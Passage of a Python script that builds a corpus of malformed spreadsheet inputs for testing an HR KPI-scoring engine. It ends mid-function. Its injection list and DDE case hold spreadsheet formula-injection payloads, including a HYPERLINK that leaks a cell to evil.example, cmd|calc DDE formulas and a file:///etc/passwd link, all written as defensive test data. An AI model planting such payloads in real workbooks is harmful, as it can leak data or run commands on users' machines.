"""Build the bad-input corpus: one drop folder per case.

    python -m tests.corpus.make_corpus OUT_DIR [CASE ...]

Every case starts from ``tests/builders.clean_folder`` (the assessment form and two
clean monthly target sheets, people E001–E004) — the "other files in the same folder"
that must still be scored — and adds or swaps in the file that carries the defect.
Expectations for each case live in :mod:`tests.corpus.cases`.

Bad rows belong to people E1xx in 2026-01, so the clean people's numbers never move.
"""

from __future__ import annotations

import os
import shutil
import subprocess
import sys
import tempfile
from collections.abc import Callable
from datetime import date, datetime
from pathlib import Path

import msoffcrypto.format.ooxml
from openpyxl import Workbook
from openpyxl.workbook.protection import WorkbookProtection

from tests import builders
from tests.corpus.xl import (
    Err,
    Formula,
    RawSheet,
    Serial,
    lie_about_size,
    patch_member,
    raw_xlsx,
    sheet_xml,
    xw_book,
)

HEADER = builders.TARGETS_HEADER  # 工号 姓名 部门 岗位 期间 指标 目标值 实际值 单位 备注
EN_HEADER = ["Employee ID", "Name", "Team", "Role", "Period", "KPI", "Target", "Actual", "Unit", "Note"]
MONTH = "2026-01"
CLEAN_IDS = ("E001", "E002", "E003", "E004")
ROLE = "销售代表"

# The zip bomb's sheet inflates to this many bytes (inputs.md: an oversized file is
# refused naming the file). Far above any real sheet, including the row-limit case.
BOMB_BYTES = 1536 * 1024 * 1024
ROW_LIMIT = 1_048_576

BUILDERS: dict[str, Callable[[Path], None]] = {}


def case(name: str):
    def register(fn: Callable[[Path], None]):
        if name in BUILDERS:
            raise ValueError(f"case {name} defined twice")
        BUILDERS[name] = fn
        fn.case_name = name
        return fn

    return register


def row(pid, kpi, target, actual, *, name=None, team="华北", month=MONTH, role=ROLE, unit=None, note=None):
    return [pid, name or f"员工{pid}", team, role, month, kpi, target, actual, unit, note]


def person(pid, *, name=None, team="华北", month=MONTH, sales=(100000, 110000), clients=(10, 10), complaints=(0, 1)):
    """One clean person's three own-source KPI rows for one month."""
    return [
        row(pid, "销售额", *sales, name=name, team=team, month=month, unit="元"),
        row(pid, "新客户数", *clients, name=name, team=team, month=month),
        row(pid, "客户投诉", *complaints, name=name, team=team, month=month),
    ]


def base(folder: Path) -> Path:
    return builders.clean_folder(folder)


def targets_xw(path: Path, rows: list[list], *, header=HEADER, sheet="目标管理", **kw) -> Path:
    return xw_book(path, {sheet: [header, *rows]}, **kw)


# Extra roles for the cases that need a percent KPI or a role with broken weights;
# the builders' 销售代表 rows stay as they are, so E001–E004 score as in the clean run.
SCHEME_EXTRA = [
    ["客户经理", "回款率", "销售业绩", 60, "越高越好", "完成率", None, None, None, None, None, "平均", "本人", "%"],
    ["客户经理", "费用率", "销售业绩", 40, "越低越好", "完成率", None, None, None, None, None, "平均", "本人", "%"],
]


def assessment_form_with(path: Path, extra_scheme: list[list] = (), *, ratings=None, settings=None, tiers=None,
                         scheme=None) -> Path:
    scheme = [*(scheme or builders.SCHEME), *extra_scheme]
    rating_rows = [builders.RATINGS_HEADER]
    for month in ("2026-01", "2026-02"):
        for pid, *_rest, word in builders.PEOPLE:
            rating_rows.append([pid, month, "团队协作", "上级", "经理", word])
    rating_rows += ratings or []
    return xw_book(path, {
        "考核方案": scheme,
        "分段计分": tiers or builders.TIERS,
        "评分": rating_rows,
        "设置": settings or builders.SETTINGS,
    })


# --- headers and sheets --------------------------------------------------------------


@case("title_rows_above_header")
def _(folder: Path) -> None:
    base(folder)
    xw_book(folder / "targets_title.xlsx", {"目标管理": [
        ["2026年1月销售目标"], ["华北区 · 制表：HR"], [], HEADER, *person("E101"),
    ]})


@case("header_below_row_10")
def _(folder: Path) -> None:
    base(folder)
    xw_book(folder / "targets_low_header.xlsx", {"目标管理": [[f"说明第{i}行"] for i in range(11)] + [HEADER, *person("E101")]})


@case("grid_layout_classic")
def _(folder: Path) -> None:
    """HR's own 目标管理表: one row per person × KPI, 目标值 and 1月 … 12月 (issue 12)."""
    base(folder)
    header = ["工号", "姓名", "部门", "岗位", "指标", "单位", "目标值", *[f"{m}月" for m in range(1, 13)], "合计"]
    xw_book(folder / "目标管理表.xlsx", {"目标管理": [
        ["2026年华北区目标管理表"], header,
        ["E101", "员工E101", "华北", ROLE, "销售额", "元", 100000, 110000, 90000, *[None] * 10, 200000],
        ["E101", "员工E101", "华北", ROLE, "新客户数", None, 10, 10, 12, *[None] * 10, 22],
        ["E101", "员工E101", "华北", ROLE, "客户投诉", None, 0, 1, 0, *[None] * 10, 1],
    ]})


@case("grid_layout_without_year")
def _(folder: Path) -> None:
    """A month grid whose title, cells and file name name no year: an error asking for it."""
    base(folder)
    header = ["工号", "姓名", "部门", "岗位", "指标", "目标值", "1月", "2月"]
    xw_book(folder / "targets_grid.xlsx", {"目标管理": [
        ["华北区目标管理表"], header,
        ["E101", "员工E101", "华北", ROLE, "销售额", 100000, 110000, 90000],
        ["E101", "员工E101", "华北", ROLE, "新客户数", 10, 10, 12],
    ]})


@case("month_title_vs_file_name")
def _(folder: Path) -> None:
    """A monthly sheet without 期间 whose title says February and whose name says January."""
    base(folder)
    header = [h for h in HEADER if h != "期间"]
    rows = [[r[0], r[1], r[2], r[3], r[5], r[6], r[7], r[8], r[9]] for r in person("E101")]
    xw_book(folder / "2026-01目标.xlsx", {"目标管理": [["2026年2月销售目标"], header, *rows]})


@case("english_headers_odd_spelling")
def _(folder: Path) -> None:
    base(folder)
    header = [" employee  id ", "NAME", "team", "Role ", "period", "kpi", "Target (CNY)", "ACTUAL（元）", "unit", "note"]
    xw_book(folder / "targets_en.xlsx", {"  TARGETS ": [header, *person("E101")]})


@case("unit_hint_wan")
def _(folder: Path) -> None:
    base(folder)
    header = [*HEADER[:6], "目标值（万元）", "实际值(万)", *HEADER[8:]]
    rows = [
        row("E101", "销售额", 10, 11.2),          # 100,000 / 112,000
        row("E102", "销售额", "50万", "55万元"),   # its own unit: 500,000 / 550,000, not scaled twice
    ]
    xw_book(folder / "targets_wan.xlsx", {"目标管理": [header, *rows]})


@case("sheet_found_by_header")
def _(folder: Path) -> None:
    base(folder)
    xw_book(folder / "march_export.xlsx", {"Sheet1": [HEADER, *person("E101")]})


@case("unrecognised_sheet")
def _(folder: Path) -> None:
    base(folder)
    xw_book(folder / "targets_with_notes.xlsx", {
        "目标管理": [HEADER, *person("E101")],
        "备忘": [["本月注意事项"], ["请按时提交"], [1, 2, 3]],
    })


@case("extra_columns")
def _(folder: Path) -> None:
    base(folder)
    header = ["序号", *HEADER[:6], "联系电话", *HEADER[6:], "审核人"]
    rows = [[i, *r[:6], "13800000000", *r[6:], "李经理"] for i, r in enumerate(person("E101"), 1)]
    xw_book(folder / "targets_extra.xlsx", {"目标管理": [header, *rows]})


@case("merged_data_cells")
def _(folder: Path) -> None:
    """工号, 姓名, 部门 merged over a person's three rows, as HR lays sheets out."""
    base(folder)
    rows = person("E101") + person("E102")
    for r in (rows[1], rows[2], rows[4], rows[5]):
        r[0] = r[1] = r[2] = None
    merges = {"目标管理": [("A2:A4", "E101"), ("B2:B4", "员工E101"), ("C2:C4", "华北"),
                          ("A5:A7", "E102"), ("B5:B7", "员工E102"), ("C5:C7", "华北")]}
    xw_book(folder / "targets_merged.xlsx", {"目标管理": [HEADER, *rows]}, merges=merges)


@case("multirow_merged_header")
def _(folder: Path) -> None:
    base(folder)
    group = ["基本信息", None, None, None, None, None, "业绩", None, "其他", None]
    merges = {"目标管理": [("A1:F1", "基本信息"), ("G1:H1", "业绩"), ("I1:J1", "其他")]}
    xw_book(folder / "targets_grouped.xlsx", {"目标管理": [group, HEADER, *person("E101")]}, merges=merges)


@case("blank_header_column")
def _(folder: Path) -> None:
    base(folder)
    header = [*HEADER[:6], None, *HEADER[6:]]
    rows = [[*r[:6], "随手记", *r[6:]] for r in person("E101")]
    xw_book(folder / "targets_blank_header.xlsx", {"目标管理": [header, *rows]})


@case("duplicate_header")
def _(folder: Path) -> None:
    """Two 实际值 columns: which one is meant is a guess the engine must not make."""
    base(folder)
    header = [*HEADER, "实际值"]
    rows = [[*r, 999999] for r in person("E101")]
    xw_book(folder / "targets_dup_header.xlsx", {"目标管理": [header, *rows]})


@case("hidden_sheet")
def _(folder: Path) -> None:
    base(folder)
    xw_book(folder / "targets_hidden.xlsx", {"封面": [["目标表"]], "目标管理": [HEADER, *person("E101")]},
            hidden=("目标管理",))


@case("very_hidden_sheet")
def _(folder: Path) -> None:
    base(folder)
    xw_book(folder / "targets_very_hidden.xlsx", {"封面": [["目标表"]], "目标管理": [HEADER, *person("E101")]},
            very_hidden=("目标管理",))


# --- cell values ------------------------------------------------------------------------

# (target text, actual text, the numbers they mean) — every form of inputs.md.
NUMBER_FORMS = [
    (" 100000 ", "110000", 100000, 110000),
    ("１００，０００", "１１０，０００", 100000, 110000),
    ("¥100,000", "￥110,000", 100000, 110000),
    ("RMB 100000", "$110000", 100000, 110000),
    ("100000元", "11万", 100000, 110000),
    ("10万元", "11.0万", 100000, 110000),
    ("1.2万", "１.３万", 12000, 13000),
    ("100,000.00", "110，000", 100000, 110000),
    ("－5", "-5", -5, -5),
]


@case("numbers_as_text")
def _(folder: Path) -> None:
    base(folder)
    rows = [row(f"E1{i:02d}", "销售额", t, a, unit="元") for i, (t, a, *_n) in enumerate(NUMBER_FORMS[:-1], 1)]
    xw_book(folder / "targets_text_numbers.xlsx", {"目标管理": [HEADER, *rows]})
    # Percent forms need a percent KPI: 95%, ９５％ and 0.95 are one number.
    assessment_form_with(folder / "assessment_form.xlsx", SCHEME_EXTRA)
    pct = [
        row("E201", "回款率", "95%", "９５％", role="客户经理", unit="%"),
        row("E201", "费用率", 0.05, "5 %", role="客户经理", unit="%"),
    ]
    xw_book(folder / "targets_percent.xlsx", {"目标管理": [HEADER, *pct]})


NO_DATA_WORDS = ["-", "—", "–", "/", "N/A", "NA", "无", "暂无", "空", None]


@case("no_data_words_vs_zero")
def _(folder: Path) -> None:
    base(folder)
    rows = []
    for i, word in enumerate(NO_DATA_WORDS, 1):
        rows.append(row(f"E1{i:02d}", "销售额", 100000, word, unit="元"))
        rows.append(row(f"E1{i:02d}", "新客户数", 10, 0))  # a real zero: scored, 0%
    xw_book(folder / "targets_no_data.xlsx", {"目标管理": [HEADER, *rows]})


BAD_NUMBERS = ["十二", "1.2.3", "abc", "12元5", "1,2,3,4.5.6"]


@case("bad_numbers")
def _(folder: Path) -> None:
    base(folder)
    rows = person("E101")  # stays clean
    rows += [row(f"E1{i:02d}", "销售额", 100000, bad, unit="元") for i, bad in enumerate(BAD_NUMBERS, 2)]
    xw_book(folder / "targets_bad_numbers.xlsx", {"目标管理": [HEADER, *rows]})


@case("percent_scale_mismatch")
def _(folder: Path) -> None:
    base(folder)
    assessment_form_with(folder / "assessment_form.xlsx", SCHEME_EXTRA)
    rows = [
        row("E201", "回款率", 0.95, 95, role="客户经理", unit="%"),     # rejected: 95 against 0.95
        row("E201", "费用率", 0.05, 0.04, role="客户经理", unit="%"),  # fine
        row("E202", "回款率", 95, 93, role="客户经理", unit="%"),       # both on the 0–100 scale
        row("E202", "费用率", 0, 3, role="客户经理", unit="%"),         # a zero target is no scale
    ]
    xw_book(folder / "targets_scale.xlsx", {"目标管理": [HEADER, *rows]})


@case("formula_without_value_openpyxl")
def _(folder: Path) -> None:
    """openpyxl writes the formula and no value: nobody ever computed it."""
    base(folder)
    wb = Workbook()
    ws = wb.active
    ws.title = "目标管理"
    ws.append(HEADER)
    for r in person("E101"):
        ws.append(r)
    ws["H2"] = "=G2*1.1"
    wb.save(folder / "targets_openpyxl_formula.xlsx")


@case("formula_xlsxwriter_fullcalc")
def _(folder: Path) -> None:
    """xlsxwriter saves 0 for every formula and sets fullCalcOnLoad: the 0 is not a value."""
    base(folder)
    rows = person("E101")
    rows[0][7] = Formula("=G2*1.1")
    rows[1][7] = Formula("=G3-1", value=9)
    xw_book(folder / "targets_xlsxwriter_formula.xlsx", {"目标管理": [HEADER, *rows]})


@case("formula_without_value_raw")
def _(folder: Path) -> None:
    """A formula with no saved value in a workbook not flagged for recalculation."""
    base(folder)
    rows = person("E101")
    rows[0][7] = Formula("=G2*1.1")
    raw_xlsx(folder / "targets_raw_formula.xlsx", [RawSheet("目标管理", sheet_xml([HEADER, *rows]))])


@case("formula_with_saved_value")
def _(folder: Path) -> None:
    """A formula Excel computed and saved: its value is used."""
    base(folder)
    rows = person("E101")
    rows[0][7] = Formula("=G2*1.1", value=110000)
    rows[1][7] = Formula('=IF(G3>0,12,"")', value=12)
    raw_xlsx(folder / "targets_saved_formula.xlsx", [RawSheet("目标管理", sheet_xml([HEADER, *rows]))])


# Text that spreadsheet programs would turn into a formula, a link or an error.
INJECTIONS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"点我")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C notepad'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "#N/A",
    "=1/0",
    "http://evil.example/login",
    "铃\x07声\x1b[31m红",
]


@case("formula_like_text")
def _(folder: Path) -> None:
    base(folder)
    rows = []
    for i, text in enumerate(INJECTIONS, 1):
        pid = f"E1{i:02d}"
        for r in person(pid, name=text, team="华北"):
            r[9] = INJECTIONS[-i]  # 备注 carries another payload
            rows.append(r)
    # A team whose name is a formula: it reaches 团队 and the charts.
    rows += person("E150", team="=SUM(A1:A9)")
    xw_book(folder / "targets_injection.xlsx", {"目标管理": [HEADER, *rows]})


@case("links_and_dde_in_input")
def _(folder: Path) -> None:
    """Hyperlinks, an external-workbook reference and a DDE formula in the input: their
    saved values may be read, but nothing of them may reach the result as a link or formula."""
    import xlsxwriter

    base(folder)
    rows = person("E101")
    rows[0][7] = Formula("='[budget.xlsx]Sheet1'!A1", value=110000)
    rows[1][9] = Formula("=cmd|' /C calc'!A0", value="备注")
    raw_xlsx(folder / "targets_dde.xlsx", [RawSheet("目标管理", sheet_xml([HEADER, *rows]))])
    path = folder / "targets_links.xlsx"
    wb = xlsxwriter.Workbook(str(path))
    ws = wb.add_worksheet("目标管理")
    for r, values in enumerate([HEADER, *person("E102")]):
        for c, v in enumerate(values):
            if v is not None:
                ws.write(r, c, v) if not isinstance(v, str) else ws.write_string(r, c, v)
    ws.write_url("J2", "http://evil.example/phish", string="点此查看")
    ws.write_url("B3", "file:///etc/passwd", string="员工E102")
    wb.close()


@case("error_cells")
def _(folder: Path) -> None:
    """Excel error values saved in number cells."""
    base(folder)
    rows = person("E101")
    rows += [row("E102", "销售额", 100000, Err("#N/A"), unit="元"),
             row("E103", "销售额", Err("#DIV/0!"), 100000, unit="元"),
             row("E104", "销售额", 100000, Formula("=1/0", value=None), unit="元")]
    rows[-1][7] = Err("#REF!")
    raw_xlsx(folder / "targets_errors.xlsx", [RawSheet("目标管理", sheet_xml([HEADER, *rows]))])


@case("boolean_and_date_in_number")
def _(folder: Path) -> None:
    base(folder)
    rows = person("E101")
    rows += [row("E102", "销售额", 100000, True, unit="元"),
             row("E103", "销售额", 100000, datetime(2026, 1, 5), unit="元")]
    xw_book(folder / "targets_bool_date.xlsx", {"目标管理": [HEADER, *rows]})


# --- periods and dates -------------------------------------------------------------------

PERIOD_FORMS = ["2026-01", "2026/1", "2026.01", "2026年1月", "202601", 202601, datetime(2026, 1, 15), " 2026-1 "]


@case("period_forms")
def _(folder: Path) -> None:
    base(folder)
    rows = [r for i, p in enumerate(PERIOD_FORMS, 1) for r in person(f"E1{i:02d}", month=p)]
    xw_book(folder / "targets_periods.xlsx", {"目标管理": [HEADER, *rows]})


@case("period_bad")
def _(folder: Path) -> None:
    base(folder)
    rows = person("E101")
    rows += [row("E102", "销售额", 100000, 90000, month=2026.1, unit="元"),   # ambiguous decimal
             row("E103", "销售额", 100000, 90000, month="三月", unit="元"),
             row("E104", "销售额", 100000, 90000, month="2026-13", unit="元")]
    xw_book(folder / "targets_bad_period.xlsx", {"目标管理": [HEADER, *rows]})


@case("period_impossible_day")
def _(folder: Path) -> None:
    """Days the month does not have: once read as their month, now errors (issue 12)."""
    base(folder)
    rows = person("E101")
    rows += [row("E102", "销售额", 100000, 90000, month="2026-02-30", unit="元"),
             row("E103", "销售额", 100000, 90000, month=20260230, unit="元"),
             row("E104", "销售额", 100000, 90000, month="2026-2-0", unit="元"),
             row("E105", "销售额", 100000, 90000, month="2026-02-28", unit="元")]  # a real day: scored
    xw_book(folder / "targets_impossible_day.xlsx", {"目标管理": [HEADER, *rows]})


@case("notes_past_a_cell")
def _(folder: Path) -> None:
    """Each month's 备注 fits a cell; joined over the scope on 明细 they do not (issue 12)."""
    builders.clean_folder(folder, months=("2026-01", "2026-02"))
    for month in ("2026-01", "2026-02"):
        rows = [*person("E101", month=month)]
        rows[0][-1] = f"{month} " + "客户拜访记录。" * 2_500  # 17,508 characters
        xw_book(folder / f"targets_notes_{month}.xlsx", {"目标管理": [HEADER, *rows]})


@case("ids_typed_two_ways")
def _(folder: Path) -> None:
    """One person's rows with a full-width 工号, a no-break space, a full-width KPI name:
    one person after NFKC, scored on all three KPIs (issue 12)."""
    base(folder)
    rows = person("E101")
    rows[0][0] = "Ｅ１０１"
    rows[1][0] = "E101\u00a0"
    rows[2][5] = "客户投诉\u3000"
    rows[2][2] = "华北"
    xw_book(folder / "targets_ids.xlsx", {"目标管理": [HEADER, *rows]})


@case("id_two_names_name_two_ids")
def _(folder: Path) -> None:
    """E101 typed under two names in one month; 王五 under two 工号 in one team (issue 12)."""
    base(folder)
    rows = person("E101", name="张三")
    rows[1][1] = "张三丰"
    rows += person("E102", name="王五") + person("E103", name="王五")
    xw_book(folder / "targets_names.xlsx", {"目标管理": [HEADER, *rows]})


@case("month_grid_only")
def _(folder: Path) -> None:
    """A grid of monthly sales per person, with neither KPI nor target, and no long sheet:
    nothing can be scored, and the first cause printed says the sheet looks like a month
    grid and what it lacks (issue 12)."""
    builders.assessment_form(folder / "assessment_form.xlsx")
    rows = [["工号", "姓名", "部门", "岗位", "1月", "2月", "3月", "合计"]]
    rows += [[pid, f"员工{pid}", "华北", ROLE, 30000, 35000, 40000, 105000] for pid in CLEAN_IDS]
    xw_book(folder / "销售目标2026.xlsx", {"Sheet1": rows})


@case("period_far_future_date")
def _(folder: Path) -> None:
    """Date cells centuries away in 期间: a typo, never a month to score."""
    base(folder)
    rows = person("E101")
    rows += [row("E102", "销售额", 100000, 90000, month=datetime(2500, 1, 15), unit="元"),
             row("E103", "销售额", 100000, 90000, month=datetime(9999, 12, 31), unit="元")]
    xw_book(folder / "targets_future.xlsx", {"目标管理": [HEADER, *rows]})


def _serial(d: date, *, system1904: bool = False) -> int:
    epoch = date(1904, 1, 1) if system1904 else date(1899, 12, 30)
    return (d - epoch).days


@case("date_system_1904")
def _(folder: Path) -> None:
    """A Mac workbook: serials count from 1904; read in the 1900 system they land in 2030."""
    base(folder)
    rows = person("E101", month=Serial(_serial(date(2026, 1, 15), system1904=True)))
    raw_xlsx(folder / "targets_1904.xlsx", [RawSheet("目标管理", sheet_xml([HEADER, *rows]))], date1904=True)


@case("date_system_1900")
def _(folder: Path) -> None:
    base(folder)
    rows = person("E101", month=Serial(_serial(date(2026, 1, 31))))
    raw_xlsx(folder / "targets_1900.xlsx", [RawSheet("目标管理", sheet_xml([HEADER, *rows]))])


@case("serial_60")
def _(folder: Path) -> None:
    """Serial 60 is 1900-02-29, a day that never was (Lotus' leap-year bug)."""
    base(folder)
    rows = person("E101")
    rows += [row("E102", "销售额", 100000, 90000, month=Serial(60), unit="元")]
    raw_xlsx(folder / "targets_serial60.xlsx", [RawSheet("目标管理", sheet_xml([HEADER, *rows]))])


# --- rows ------------------------------------------------------------------------------


@case("rows_without_id")
def _(folder: Path) -> None:
    base(folder)
    rows = person("E101") + [
        [None, None, None, None, MONTH, "销售额", 100000, 110000, "元", "合计"],
        ["合计", None, None, None, None, None, 300000, 330000, None, None],  # 合计 in the 工号 column
        [None, "注：本表由华北区填写", None, None, None, None, None, None, None, None],
    ]
    xw_book(folder / "targets_totals.xlsx", {"目标管理": [HEADER, *rows]})


@case("empty_rows")
def _(folder: Path) -> None:
    base(folder)
    rows = person("E101")
    rows = [rows[0], [], [], rows[1], [None] * 10, rows[2], [], ["  "]]
    xw_book(folder / "targets_gaps.xlsx", {"目标管理": [HEADER, *rows]})


@case("duplicate_rows_same_within_file")
def _(folder: Path) -> None:
    base(folder)
    rows = person("E101")
    rows.append(list(rows[0]))
    xw_book(folder / "targets_dup_same.xlsx", {"目标管理": [HEADER, *rows]})


@case("duplicate_rows_conflict_within_file")
def _(folder: Path) -> None:
    base(folder)
    rows = person("E101")
    rows.append(row("E101", "销售额", 100000, 999999, unit="元"))
    xw_book(folder / "targets_dup_conflict.xlsx", {"目标管理": [HEADER, *rows]})


@case("duplicate_file_copy")
def _(folder: Path) -> None:
    base(folder)
    shutil.copy(folder / "targets_2026-01.xlsx", folder / "targets_2026-01 - 副本.xlsx")


@case("duplicate_conflict_across_files")
def _(folder: Path) -> None:
    base(folder)
    xw_book(folder / "targets_late_fix.xlsx", {"目标管理": [
        HEADER, row("E001", "销售额", 100000, 150000, name="张伟", team="华东", unit="元"),
    ]})


@case("unknown_role_and_kpi")
def _(folder: Path) -> None:
    base(folder)
    rows = person("E101")
    rows += [row("E102", "销售额", 100000, 110000, role="外星人", unit="元"),
             row("E103", "利润", 100000, 110000, unit="元"),
             row("E104", "团队协作 ", 1, 1)]  # a KPI of the role; the trailing space is trimmed
    xw_book(folder / "targets_unknown.xlsx", {"目标管理": [HEADER, *rows]})


@case("weights_not_100")
def _(folder: Path) -> None:
    base(folder)
    extra = [
        ["区域经理", "区域销售额", "销售业绩", 60, None, None, None, None, None, None, None, "合计", "本人", None],
        ["区域经理", "区域回款", "销售业绩", 30, None, None, None, None, None, None, None, "合计", "本人", None],
    ]
    assessment_form_with(folder / "assessment_form.xlsx", extra)
    rows = [row("E301", "区域销售额", 100, 90, role="区域经理"), row("E301", "区域回款", 100, 95, role="区域经理")]
    xw_book(folder / "targets_managers.xlsx", {"目标管理": [HEADER, *rows]})


@case("weight_forms")
def _(folder: Path) -> None:
    base(folder)
    extra = [
        ["客户经理", "回款率", None, "60%", None, None, None, None, None, None, None, "平均", None, "%"],
        ["客户经理", "费用率", None, "40%", "越低越好", None, None, None, None, None, None, "平均", None, "%"],
        ["区域经理", "区域销售额", None, 0.7, None, None, None, None, None, None, None, None, None, None],
        ["区域经理", "区域回款", None, 0.3, None, None, None, None, None, None, None, None, None, None],
    ]
    assessment_form_with(folder / "assessment_form.xlsx", extra)
    rows = [
        row("E201", "回款率", "90%", "95%", role="客户经理", unit="%"),
        row("E201", "费用率", "5%", "5%", role="客户经理", unit="%"),
        row("E301", "区域销售额", 100, 100, role="区域经理"),
        row("E301", "区域回款", 100, 100, role="区域经理"),
    ]
    xw_book(folder / "targets_roles.xlsx", {"目标管理": [HEADER, *rows]})


@case("text_fields_and_ids")
def _(folder: Path) -> None:
    base(folder)
    rows = person("00123", name="  张　 伟  ", team=" 华北 　一组 ")
    rows += person(12345)  # a numeric 工号 becomes "12345"
    rows += person(" E103 ")
    rows += person("1E5")  # text that looks like a number stays text
    xw_book(folder / "targets_ids.xlsx", {"目标管理": [HEADER, *rows]})


@case("long_and_unicode_text")
def _(folder: Path) -> None:
    base(folder)
    rows = person("E101", name="😀 Zoë Ñandú ‏עברית‎", team="华北")
    rows[0][9] = "长" * 40000  # beyond Excel's 32,767 characters per cell
    rows[1][9] = "line1\nline2\r\nline3"
    raw_xlsx(folder / "targets_unicode.xlsx", [RawSheet("目标管理", sheet_xml([HEADER, *rows]))])


@case("person_changes_team")
def _(folder: Path) -> None:
    """E101 moves from 华北 to 华南 in February: scored once, under the latest team, with a warning."""
    base(folder)
    rows = person("E101", team="华北") + person("E101", team="华南", month="2026-02")
    xw_book(folder / "targets_moves.xlsx", {"目标管理": [HEADER, *rows]})


@case("extreme_numbers")
def _(folder: Path) -> None:
    """Numbers no sales sheet holds (a slipped exponent): ratios and sums overflow to inf."""
    base(folder)
    rows = person("E101")
    rows += [row("E102", "销售额", 1e-300, 1e300, unit="元"),
             row("E103", "销售额", 1e308, 1e308, unit="元"),
             row("E103", "销售额", 1e308, 1e308, unit="元", month="2026-02")]
    xw_book(folder / "targets_extreme.xlsx", {"目标管理": [HEADER, *rows]})


@case("negative_target")
def _(folder: Path) -> None:
    base(folder)
    rows = person("E101", sales=(-100000, 50000))
    xw_book(folder / "targets_negative.xlsx", {"目标管理": [HEADER, *rows]})


# --- the other sheets of the assessment form ---------------------------------------------


@case("ratings_bad")
def _(folder: Path) -> None:
    base(folder)
    ratings = [
        ["E001", "2026-01", "团队协作", "同事", "小王", "优"],      # not a rating word
        ["E002", "2026-01", "团队协作", "老板", "大王", "好"],      # not a rater type
        ["E003", "2026-01", "团队协作", "同事", "小李", 150],       # points above 100
        ["E004", "2026-01", "销售额", "同事", "小李", "好"],        # not a 等级 KPI
        ["E004", "二月", "团队协作", "同事", "小李", "好"],         # bad period
        ["E004", "2026-02", "团队协作", "客户", "客户甲", "B"],     # weight 0: info only
    ]
    assessment_form_with(folder / "assessment_form.xlsx", ratings=ratings)


@case("tiers_bad")
def _(folder: Path) -> None:
    """A second tier table with a word for a bound, and one whose steps start above 0%."""
    base(folder)
    tiers = [*builders.TIERS,
             ["宽松", "八成", 0.8], ["宽松", 0.5, 0.5],
             ["严格", 1.0, 1.0], ["严格", 0.9, 0.5]]
    extra = [["区域经理", "区域销售额", None, 60, None, "分段", None, None, "宽松", None, None, None, None, None],
             ["区域经理", "区域回款", None, 40, None, "分段", None, None, "严格", None, None, None, None, None]]
    assessment_form_with(folder / "assessment_form.xlsx", extra, tiers=tiers)
    rows = [row("E301", "区域销售额", 100, 90, role="区域经理"), row("E301", "区域回款", 100, 50, role="区域经理")]
    xw_book(folder / "targets_managers.xlsx", {"目标管理": [HEADER, *rows]})


@case("curves_bad")
def _(folder: Path) -> None:
    """Scoring curves (issue 10): a multiplier written as a word and one below 1; a linear
    tier table of one point and a table whose rows mix steps and linear."""
    base(folder)
    blank = [None] * 7
    scheme = [[*builders.SCHEME[0], "加速起点", "加速倍数"], *builders.SCHEME[1:],
              ["区域经理", "区域销售额", None, 50, None, "完成率", None, None, *blank[:6], "100%", "一点五"],
              ["区域经理", "区域回款", None, 30, None, "分段", None, None, "单点", *blank[:5]],
              ["区域经理", "区域毛利", None, 20, None, "分段", None, None, "混合", *blank[:5]],
              ["店长", "门店销售额", None, 100, None, "完成率", None, None, *blank[:6], "100%", 0.8]]
    tiers = [[*builders.TIERS[0], "计分曲线"], *builders.TIERS[1:],
             ["单点", 0, 0.5, "线性"], ["混合", 0, 0, "线性"], ["混合", 1, 1, "阶梯"]]
    assessment_form_with(folder / "assessment_form.xlsx", tiers=tiers, scheme=scheme)
    rows = [row("E301", k, 100, 90, role="区域经理") for k in ("区域销售额", "区域回款", "区域毛利")]
    rows.append(row("E302", "门店销售额", 100, 120, role="店长"))
    xw_book(folder / "targets_managers.xlsx", {"目标管理": [HEADER, *rows]})


@case("settings_bad")
def _(folder: Path) -> None:
    base(folder)
    settings = [["项目", "值"], ["优秀线", "九十"], ["奖金系数", 1.5], ["良好线", 80], ["持平下限", "95%"]]
    assessment_form_with(folder / "assessment_form.xlsx", settings=settings)


@case("scheme_bad_words")
def _(folder: Path) -> None:
    base(folder)
    extra = [
        ["区域经理", "区域销售额", None, 50, "越大越好", "随便", None, None, None, None, None, None, None, None],
        ["区域经理", "区域回款", None, 30, None, "分段", None, None, "不存在的表", None, None, None, None, None],
        ["区域经理", "区域投诉", None, 20, "越低越好", "扣分", None, None, None, None, None, None, None, None],
    ]
    assessment_form_with(folder / "assessment_form.xlsx", extra)
    rows = [row("E301", k, 100, 90, role="区域经理") for k in ("区域销售额", "区域回款", "区域投诉")]
    xw_book(folder / "targets_managers.xlsx", {"目标管理": [HEADER, *rows]})


@case("training_bad")
def _(folder: Path) -> None:
    base(folder)
    header = ["课程编号", "课程名称", "类别", "日期", "计划学时", "工号", "姓名", "实到学时", "培训前测", "培训后测", "满意度", "必修"]
    rows = [
        ["C01", "产品知识", "产品知识", datetime(2026, 1, 10), 8, "E001", "张伟", 6, 60, 78, 5, "是"],
        ["C01", "产品知识", "产品知识", "2026/1/10", 8, "E002", "王芳", None, None, None, None, "是"],
        ["C01", "产品知识", "产品知识", datetime(2026, 1, 10), 8, "E003", "李娜", 9, 60, 70, 4, "是"],    # attended > planned
        ["C02", "销售技巧", "销售技巧", "昨天", 4, "E004", "刘洋", 4, 50, 60, 4, "否"],                     # bad date
        ["C02", "销售技巧", "销售技巧", datetime(2026, 1, 20), 0, "E001", "张伟", 0, None, None, None, "否"],  # planned 0
        ["C02", "销售技巧", "销售技巧", datetime(2026, 1, 20), 4, "E002", "王芳", 4, 50, 60, 6, "否"],       # satisfaction 6
        ["C02", "销售技巧", "销售技巧", datetime(2026, 1, 20), 4, "E003", "李娜", 4, 50, 60, 4, "也许"],     # mandatory word
        ["C02", "销售技巧", "销售技巧", datetime(2026, 1, 20), 4, None, None, 4, None, None, None, None],    # no 工号
    ]
    xw_book(folder / "training_plan.xlsx", {"培训记录": [header, *rows]})


# --- files -------------------------------------------------------------------------------------


def _soffice_convert(src: Path, fmt: str, outdir: Path) -> Path:
    outdir.mkdir(parents=True, exist_ok=True)
    profile = Path(tempfile.mkdtemp(prefix="kpi-corpus-lo-"))
    try:
        subprocess.run(
            ["soffice", f"-env:UserInstallation=file://{profile}", "--headless", "--convert-to", fmt,
             "--outdir", str(outdir), str(src)],
            check=True, capture_output=True, timeout=180,
        )
    finally:
        shutil.rmtree(profile, ignore_errors=True)
    out = outdir / f"{src.stem}.{fmt}"
    if not out.exists():
        raise RuntimeError(f"soffice did not write {out}")
    return out


@case("xls_file")
def _(folder: Path) -> None:
    base(folder)
    with tempfile.TemporaryDirectory() as tmp:
